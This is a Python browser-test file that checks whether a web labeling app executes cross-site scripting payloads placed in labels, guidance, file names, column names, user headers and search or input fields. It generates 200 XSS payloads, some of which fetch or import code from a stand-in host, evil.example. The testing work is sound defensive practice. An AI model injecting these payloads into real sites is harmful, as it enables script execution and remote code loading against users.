"""Texts, labels, guidance, names and column names that try to be more than texts."""

import csv
import json
from itertools import cycle, islice
from urllib.parse import quote

MARKS = ["<script>{}</script>", "<img src=x onerror={}>", '"><svg onload={}>', "javascript:{}",
         "<iframe srcdoc='<script>{}</script>'>", "</textarea><script>{}</script>",
         "</title><script>{}</script>", "<a href='javascript:{}'>x</a>", "{{constructor('{}')()}}",
         "${{{}}}", "<style>@import 'http://evil.example/{}'</style>", "' onfocus='{}' autofocus='",
         "<body onload={}>", "<math href='javascript:{}'>x", "\u2028{}//", "<!--{}-->",
         "<link rel=stylesheet href='http://evil.example/?{}'>", "]]><x:script>{}</x:script>",
         "<details open ontoggle={}>x", "<video src=x onerror={}>"]  # fmt: skip
CALLS = ["alert(1)", "window.ran=1", "fetch('http://evil.example')", "confirm`1`", "prompt(1)",
         "document.body.remove()", "top.ran=1", "eval('ran=1')", "import('http://evil.example')",
         "parent.ran=1"]  # fmt: skip
PAYLOADS = [mark.replace("{}", call) for mark in MARKS for call in CALLS]


# All of them again, ten in a text.
TYPED = [" ".join(PAYLOADS[at : at + 10]) for at in range(0, 200, 10)]
# A file's name has no `/`.
FILE = "<img src=x onerror=alert(1)>.csv"


def written(labeling, name, columns, rows):
    with open(labeling.folder / name, "w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([columns, *rows])


def ran_nothing(page):
    page.wait_for_timeout(300)
    strange = "main script, main img, main iframe:not(#report), main style, main video, main svg a"
    return page.evaluate("what => [window.ran, document.querySelectorAll(what).length]", strange
                         ) == [None, 0]  # fmt: skip


def see_model_and_data(page):
    page.click("#tab-model")
    page.locator("#report:visible").wait_for()
    report = page.frame_locator("#report")
    report.locator("h1").first.wait_for()
    # The only scripts and pictures of a report are its own.
    assert report.locator("img, iframe, video, body svg a, [onerror], [onload]").count() == 0
    page.click("#tab-data")
    page.locator("#data-said h3").first.wait_for()


def test_no_payload_runs_in_any_field(labeling):
    assert len(set(PAYLOADS)) == 200
    columns = PAYLOADS[:4]
    rows = list(zip(*(islice(cycle(PAYLOADS), n, n + 200) for n in range(4)), strict=True))
    written(labeling, FILE, columns, rows)
    labeling.start(data=FILE, model="<svg onload=alert(1)>.likely")
    for label, guidance in zip(PAYLOADS, reversed(PAYLOADS), strict=True):
        labeling.post("/api/labels", {"name": label})
        labeling.post("/api/labels", {"name": label, "guidance": guidance})
    for at in range(200):
        body = {"items": [at], "labels": [PAYLOADS[at % 2 if at < 100 else at]]}
        labeling.post("/api/answer", body, **{"X-User": quote(PAYLOADS[-1 - at])})
    labeling.post("/api/answer", {"items": list(range(90)), "labels": [PAYLOADS[2]]},
                  **{"X-User": quote(PAYLOADS[7])})  # fmt: skip
    page = labeling.page(name=PAYLOADS[5])
    page.click("#meanings summary")
    for _ in range(3):
        title = page.inner_text("#row-title")
        page.keyboard.press("2")
        page.wait_for_function(
            "before => document.querySelector('#row-title').textContent !== before", arg=title
        )
    shown = page.inner_text("#labels") + page.inner_text("#guidance")
    assert PAYLOADS[150] in shown
    for typed in TYPED:
        page.fill("#search-text", typed)
        with page.expect_response(lambda answer: "/api/search" in answer.url):
            page.keyboard.press("Enter")
    page.fill("#search-text", "<")
    page.keyboard.press("Enter")
    page.locator(".entry").nth(19).wait_for()
    while page.is_visible("#list-more"):
        n = page.locator(".entry").count()
        page.click("#list-more")
        page.wait_for_function("n => document.querySelectorAll('.entry').length > n", arg=n)
    assert page.locator(".entry").count() > 150
    page.click("#bulk-go")
    page.keyboard.press("Escape")
    page.click("#tab-try")
    field = page.locator("#try-fields textarea, #try-fields input").first
    for typed in TYPED:
        with page.expect_response(lambda answer: "/api/try" in answer.url):
            field.fill(typed)
    page.locator("#try-said .figure").wait_for()
    see_model_and_data(page)
    assert ran_nothing(page)
    for name in PAYLOADS:
        page.fill("#name", name)
        page.dispatch_event("#name", "change")
    assert ran_nothing(page)
    held = [json.loads(line) for line in labeling.get("/export.jsonl").split("\n")[:-1]]
    assert {row[columns[0]] for row in held} == set(PAYLOADS)


def test_no_payload_runs_as_the_name_of_a_column(labeling):
    rows = [[f"{word} {n}", *("ab"[n % 2] for _ in PAYLOADS[1:])] for n, word in enumerate(
        ["prize", "lunch"] * 4)]  # fmt: skip
    written(labeling, "data.csv", PAYLOADS, rows)
    labeling.start("--labels", "spam,ham")
    for at in range(8):
        labeling.post("/api/answer", {"items": [at], "labels": [["spam", "ham"][at % 2]]})
    page = labeling.page()
    page.fill("#search-text", "prize")
    page.keyboard.press("Enter")
    page.locator(".entry").nth(3).click()
    page.click("#tab-try")
    page.locator("#try-fields textarea, #try-fields input").first.fill("prize")
    page.locator("#try-said .figure").wait_for()
    shown = page.text_content("#row-cells") + page.text_content("#try-fields")
    assert [name for name in PAYLOADS if name.strip() not in shown] == []
    see_model_and_data(page)
    assert ran_nothing(page)
